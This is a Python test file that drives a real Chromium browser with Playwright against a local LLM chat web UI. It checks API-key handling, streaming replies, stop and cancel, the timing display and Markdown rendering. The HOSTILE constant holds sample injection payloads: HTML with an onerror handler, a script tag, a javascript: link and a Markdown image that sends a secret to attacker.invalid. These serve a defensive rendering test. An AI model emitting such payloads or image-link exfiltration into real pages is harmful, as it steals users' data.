"""The chat page at /ui, in a real browser (Debian's chromium driven by Playwright) against a real
`llmcli serve` of a store with the embedded SmolLM2 and Gemma 3 270M: it loads without the key and
fetches nothing from elsewhere, asks for the key on a 401, streams a reply from each model, stops
one mid-reply, shows each reply's stages as its `timings` say, and renders model text without
ever parsing HTML or fetching an image."""

from __future__ import annotations

import json
import re
import time

import httpx
import pytest

from llmcli.model_ref import EMBEDDED_NAME
from llmcli.params import USER_PARAMS
from llmcli.stages import STAGES
from llmcli.store import ModelEntry, Store
from tests.serve.server import AUTH, HANG_GUARD_S, KEY, ServeProcess
from tests.support.browser import chromium
from tests.support.deps import require

GEMMA = "gemma3-270m"
CANCELLED = 'llmcli:requests_total{finished_reason="cancelled"}'
# Model text a prompt injection could produce: raw HTML with a handler, a Markdown image whose address
# carries a secret out, a javascript: link. None of it may become an element, a request or a script.
HOSTILE = (
    'Here: <img src=x onerror="window.__pwned = 1"> and ![x](http://attacker.invalid/?q=secret)\n\n'
    '<script>window.__pwned = 2</script> [click](javascript:window.__pwned=3) <iframe src="/x"></iframe>'
)
TEE = """
window.streams = [];
const pageFetch = window.fetch;
window.fetch = async (...args) => {
  const response = await pageFetch(...args);
  if (String(args[0]).endsWith('/v1/chat/completions') && response.ok) {
    response.clone().text().then((text) => window.streams.push(text), () => window.streams.push(''));
  }
  return response;
};
"""
PAGE_FILES = ("/ui", "/ui/app.js", "/ui/markdown.js", "/ui/style.css", "/ui/tables.json")


@pytest.fixture(scope="module")
def server(tmp_path_factory, gemma3_path, embedded_path):
    home = tmp_path_factory.mktemp("webui-store")
    Store(home).register(ModelEntry(name=GEMMA, path=gemma3_path, files=[gemma3_path], source="test"))
    # Short replies by default (a test that needs a long one asks in the page's settings).
    srv = ServeProcess(home, "--api-key", KEY, "-n", "24", model=None)
    yield srv
    assert srv.stop() == 0


@pytest.fixture(scope="module")
def browser():
    sync_api = require("playwright.sync_api")
    path = chromium()
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=path)
        yield launched
        launched.close()


class Tab:
    """One browser tab on the page, with every request it made and those that left the server."""

    def __init__(self, browser, server: ServeProcess, key: str | None) -> None:
        self.context = browser.new_context()
        self.requests: list[str] = []
        self.outside: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.posted: list[dict] = []  # the chat requests' bodies
        self.context.on("request", self._posted)
        self.faults: list[str] = []  # the page's own errors, and anything its CSP refused
        self.context.route("**/*", self._only_the_server)
        # A copy of each chat reply's stream as the page receives it (DevTools keeps no body of a
        # streamed fetch): the page's own fetch, teed.
        self.context.add_init_script(TEE)
        if key is not None:  # as if typed at the key prompt earlier in this tab
            self.context.add_init_script(f"sessionStorage.setItem('llmcli.key', {json.dumps(key)})")
        self.server = server
        self.page = self.context.new_page()
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("console", self._console)
        self.page.set_default_timeout(HANG_GUARD_S * 1000)
        self.response = self.page.goto(server.url + "/ui")

    def _posted(self, request) -> None:
        if request.url.endswith("/v1/chat/completions"):
            self.posted.append(json.loads(request.post_data or "{}"))

    def _console(self, message) -> None:
        if "Content Security Policy" in message.text:
            self.faults.append(message.text)

    def _only_the_server(self, route) -> None:
        if route.request.url.startswith(self.server.url + "/"):
            route.continue_()
        else:  # never reaches the network: recorded, and refused
            self.outside.append(route.request.url)
            route.abort()

    def models(self) -> list[str]:
        self.page.wait_for_selector("#model option", state="attached")
        return self.page.eval_on_selector_all("#model option", "options => options.map(o => o.value)")

    def send(self, text: str, model: str) -> dict:
        """Pick `model`, send `text` with Enter and wait for the reply's end: the reply's last chunk
        (its `timings`), as the server streamed it to the page."""
        page = self.page
        page.select_option("#model", model)
        page.fill("#prompt", text)
        before = page.locator("section.assistant").count()
        page.press("#prompt", "Enter")
        page.locator("section.assistant .actions").nth(before).wait_for()
        until(page, f"window.streams.length > {before}")
        return chunks(page.evaluate(f"window.streams[{before}]"))

    def close(self) -> None:
        self.context.close()


def until(page, expression: str) -> None:
    """Poll `expression` in the page until it is true. Not wait_for_function: its predicate runs
    through eval, which the page's CSP forbids (as it should)."""
    end = time.monotonic() + HANG_GUARD_S
    while not page.evaluate(expression):
        assert time.monotonic() < end, f"never true: {expression}"
        time.sleep(0.05)


def chunks(body: str) -> dict:
    """The SSE body's chunks: the text deltas in order, and the last chunk's timings."""
    data = [line[6:] for line in body.splitlines() if line.startswith("data: ") and line != "data: [DONE]"]
    parsed = [json.loads(d) for d in data]
    deltas = [c["choices"][0]["delta"].get("content") for c in parsed if c.get("choices")]
    timings = next(c["timings"] for c in reversed(parsed) if "timings" in c)
    return {"deltas": [d for d in deltas if d], "timings": timings}


def in_order(shown: str, streamed: str) -> bool:
    """Every word the page shows is in the streamed text, in order (Markdown drops its marks)."""
    at = 0
    for word in re.findall(r"\w+", shown):
        at = streamed.find(word, at)
        if at < 0:
            return False
        at += len(word)
    return True


@pytest.fixture
def tab(browser, server):
    opened = Tab(browser, server, KEY)
    yield opened
    opened.close()
    assert not opened.outside, f"requests outside the server: {opened.outside}"
    assert not opened.faults, opened.faults


def test_the_page_loads_without_the_key_and_fetches_nothing_elsewhere(browser, server):
    anonymous = Tab(browser, server, key=None)
    try:
        assert anonymous.response.status == 200
        assert "default-src 'self'" in anonymous.response.headers["content-security-policy"]
        anonymous.page.wait_for_selector("#key-form:not([hidden])")
        assert "needs an API key" in anonymous.page.text_content("#key-why")
        paths = {url.removeprefix(server.url) for url in anonymous.requests}
        assert set(PAGE_FILES) <= paths
        # The settings are the parameter table's rows, each with its range.
        for row in USER_PARAMS.values():
            field = anonymous.page.locator(f"#param-{row.name}")
            assert (
                float(field.get_attribute("min")) == row.low and float(field.get_attribute("max")) == row.high
            )
    finally:
        anonymous.close()
    assert anonymous.outside == [] and anonymous.faults == []
    assert all(url.startswith(server.url + "/") for url in anonymous.requests)


def test_the_page_files_need_no_key_but_the_api_does(server):
    for path in PAGE_FILES:
        r = httpx.get(server.url + path, timeout=10)
        assert r.status_code == 200, path
        assert r.headers["content-security-policy"].startswith("default-src 'self'")
    assert httpx.head(server.url + "/ui", timeout=10).status_code == 200
    assert httpx.get(server.url + "/v1/models", timeout=10).status_code == 401
    tables = httpx.get(server.url + "/ui/tables.json", timeout=10).json()
    assert [row["name"] for row in tables["params"]] == list(USER_PARAMS)
    assert [stage["key"] for stage in tables["stages"]] == [stage.key for stage in STAGES]


def test_the_key_prompt_refuses_a_wrong_key_and_takes_the_right_one(browser, server):
    anonymous = Tab(browser, server, key=None)
    page = anonymous.page
    try:
        page.wait_for_selector("#key-form:not([hidden])")
        page.fill("#key", "sk-wrong")
        page.press("#key", "Enter")
        until(page, "document.querySelector('#key-why').textContent.includes('the API key is not valid')")
        assert page.is_visible("#key-form")
        page.fill("#key", KEY)
        page.click("#key-ok")
        page.wait_for_selector("#key-form", state="hidden")
        assert set(anonymous.models()) == {EMBEDDED_NAME, GEMMA}
        assert page.evaluate("sessionStorage.getItem('llmcli.key')") == KEY
        assert page.evaluate("localStorage.length") == 0 and anonymous.context.cookies() == []
    finally:
        anonymous.close()
    assert anonymous.outside == []


@pytest.mark.parametrize("model", [EMBEDDED_NAME, GEMMA])
def test_each_model_streams_a_reply_and_its_stage_bar_is_its_timings(tab, model):
    page = tab.page
    assert model in tab.models()
    # Every change of the reply's text, as the page makes it: the reply must grow in steps.
    page.evaluate(
        """() => { window.seen = [];
        new MutationObserver(() => { const b = document.querySelector('section.assistant:last-of-type .body');
          if (b) window.seen.push(b.textContent.length); })
        .observe(document.querySelector('#chat'), {subtree: true, childList: true, characterData: true}); }"""
    )
    page.fill("#prompt", "line one")
    page.press("#prompt", "Shift+Enter")  # a new line, not a send
    page.keyboard.type("line two")
    assert page.input_value("#prompt") == "line one\nline two"
    assert page.locator("section.msg").count() == 0
    reply = tab.send("Name three colours.", model)
    assert len(reply["deltas"]) >= 2
    streamed = "".join(reply["deltas"])
    assert in_order(page.inner_text("section.assistant .body"), streamed)
    seen = [n for n in page.evaluate("window.seen") if n]
    assert len(set(seen)) >= 2, seen  # shown as it came, not at the end
    timings = reply["timings"]
    bar = page.locator("section.assistant .stagebar")
    for record in timings["stages"]:
        item = bar.locator(f"li[data-stage={record['name']}]")
        assert float(item.get_attribute("data-ms")) == record["ms"]
        assert item.locator(".ms").text_content() == f"{record['ms']:.1f} ms"
    assert bar.locator("li").count() == len(STAGES)
    assert bar.locator("[data-total=ttft]").text_content() == f"{timings['ttft_ms']:.1f}"
    assert bar.locator("[data-total=tps]").text_content() == f"{timings['predicted_per_second']:.1f}"
    assert bar.locator("[data-total=cached]").text_content() == str(timings["cache_n"])
    # The model just used is marked loaded (from /api/ps) once the reply is in.
    page.wait_for_selector(f"#model option[value='{model}'][data-loaded=yes]", state="attached")


WEATHER = {
    "type": "function",
    "function": {
        "name": "get_weather",
        "description": "The weather in a city.",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]},
    },
}


def test_a_tool_call_is_shown_as_a_call(tab):
    page = tab.page
    tab.models()
    page.click("#settings summary")
    page.fill("#tools", json.dumps([WEATHER]))
    page.select_option("#tool-choice", "required")  # the grammar holds the reply to a call
    page.fill("#param-max_tokens", "64")
    tab.send("What is the weather in Paris?", EMBEDDED_NAME)
    call = page.text_content("section.assistant .tool-call")
    assert call.startswith("call get_weather(") and call.endswith(")")
    assert isinstance(json.loads(call.removeprefix("call get_weather(")[:-1])["city"], str)


def test_copy_copies_the_reply_and_new_chat_starts_afresh(tab):
    page = tab.page
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=tab.server.url)
    tab.models()
    reply = tab.send("Name a fruit.", EMBEDDED_NAME)
    page.click("section.assistant .actions button")
    assert page.evaluate("navigator.clipboard.readText()") == "".join(reply["deltas"])
    tab.send("And a vegetable?", EMBEDDED_NAME)
    assert [m["role"] for m in tab.posted[-1]["messages"]] == ["user", "assistant", "user"]
    page.click("#new-chat")
    assert page.locator("section.msg").count() == 0
    tab.send("Name a city.", EMBEDDED_NAME)
    assert tab.posted[-1]["messages"] == [{"role": "user", "content": "Name a city."}]


def test_markdown_blocks_become_elements(tab):
    text = "\n\n".join(
        [
            "# Head",
            "**b** *i* `c` [l](https://example.org/a)",
            "- x\n- y",
            "1. z",
            "> q",
            "```py\nprint(1)\n```",
        ]
    )
    made = tab.page.evaluate(
        """async (text) => {
        const { render } = await import('/ui/markdown.js');
        const box = document.createElement('div');
        box.append(render(text));
        const name = (e) => e.tagName.toLowerCase() + (e.href ? ` ${e.href}` : '');
        return [...box.querySelectorAll('*')].map(name);
        }""",
        text,
    )
    assert made == [
        "h3", "p", "strong", "em", "code", "a https://example.org/a",
        "ul", "li", "li", "ol", "li", "blockquote", "p", "pre", "code",
    ]  # fmt: skip


def test_stop_ends_the_reply_and_the_server_cancels_it(tab, server):
    page = tab.page
    tab.models()
    before = server.metric(CANCELLED, AUTH, absent=0)
    page.click("#settings summary")
    page.fill("#param-max_tokens", "600")  # within the --ctx 1024 the tests serve
    page.fill("#prompt", "Write a very long story about a dragon who learns to count to one thousand.")
    page.press("#prompt", "Enter")
    body = page.locator("section.assistant .body")
    until(page, "document.querySelector('section.assistant .body').textContent.length > 20")
    page.click("#stop")
    page.wait_for_selector("section.assistant .actions .note")
    assert page.text_content("section.assistant .note") == "stopped"
    stopped = body.text_content()
    time.sleep(1.0)
    assert body.text_content() == stopped  # nothing after the stop
    assert page.is_disabled("#stop") and page.is_enabled("#send")
    assert server.metric_when(CANCELLED, lambda n: n >= before + 1, AUTH, absent=0) == before + 1


def test_hostile_text_makes_no_element_no_request_and_no_script(tab):
    page = tab.page
    tab.models()
    made = page.evaluate(
        """async (text) => {
        const { render } = await import('/ui/markdown.js');
        const box = document.createElement('div');
        box.id = 'rendered';
        box.append(render(text));
        document.body.append(box);
        return { tags: [...box.querySelectorAll('*')].map(e => e.tagName.toLowerCase()),
                 text: box.textContent, links: [...box.querySelectorAll('a')].map(a => a.href) }; }""",
        HOSTILE,
    )
    assert set(made["tags"]) <= {"p", "br", "span"}, made["tags"]
    assert '<img src=x onerror="window.__pwned = 1">' in made["text"]
    assert "[image: x] (http://attacker.invalid/?q=secret)" in made["text"]
    assert made["links"] == []  # javascript: is no link
    # The real path: the text as a chat message, and the model's reply to it (often an echo).
    tab.send("Repeat this exactly:\n" + HOSTILE, EMBEDDED_NAME)
    page.wait_for_timeout(500)
    assert page.locator("#chat img, #chat script, #chat iframe").count() == 0
    assert page.evaluate("window.__pwned") is None
    assert not [url for url in tab.requests if "attacker" in url or url.endswith("/x")]


def test_no_ui_turns_the_page_off_and_the_start_line_names_it(server, tmp_path):
    assert server.stderr_lines[0].endswith(f"; chat in a browser at {server.url}/ui")
    off = ServeProcess(tmp_path, "--no-ui", model=None)
    try:
        assert httpx.get(off.url + "/ui", timeout=10).status_code == 404
        assert httpx.get(off.url + "/ui/app.js", timeout=10).status_code == 404
        assert not any("/ui" in line for line in off.stderr_lines)
    finally:
        assert off.stop() == 0


def test_a_one_model_server_page_waits_for_its_model(browser, tmp_path):
    """`llmcli serve MODEL`: the page may load before the model (its routes answer 503 until then)."""
    one = ServeProcess(tmp_path, "--api-key", KEY, wait=False)
    opened = Tab(browser, one, KEY)
    try:
        assert opened.models() == [EMBEDDED_NAME]
        until(opened.page, "document.querySelector('#status').textContent === ''")
    finally:
        opened.close()
        assert one.stop() == 0
    assert opened.outside == [] and opened.faults == []
